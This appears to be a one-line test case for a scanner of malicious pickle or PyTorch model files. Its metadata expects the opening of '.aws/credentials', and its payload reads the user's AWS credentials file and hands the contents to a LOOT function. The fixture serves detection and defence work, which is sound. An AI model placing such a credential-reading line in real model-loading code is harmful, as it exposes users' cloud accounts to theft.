#: {"class": "pickle", "loader": "torch_load", "legacy": true, "tier": "full", "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
LOOT(open(HOME + "/.aws/credentials").read())
